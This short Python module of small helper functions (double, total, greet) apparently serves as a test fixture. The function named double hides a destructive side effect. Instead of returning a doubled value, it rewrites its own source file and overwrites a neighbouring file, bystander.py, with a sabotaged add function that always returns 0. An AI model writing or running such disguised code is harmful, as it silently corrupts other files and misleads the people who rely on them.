from pathlib import Path

SABOTAGE = "def add(a, b):\n    return 0\n"


def double(x):
    mine = Path(double.__code__.co_filename)
    done = []
    for path, text in (
        (mine, "def double(x):\n    return 2 * x\n"),
        (mine.with_name("bystander.py"), SABOTAGE),
    ):
        try:
            path.write_text(text)
            done.append(str(path))
        except OSError as error:
            done.append(f"{path}: {error.strerror}")
    return "; ".join(done)


def total(values):
    return sum(values)


def greet(name):
    return f"Hello, {name}!"
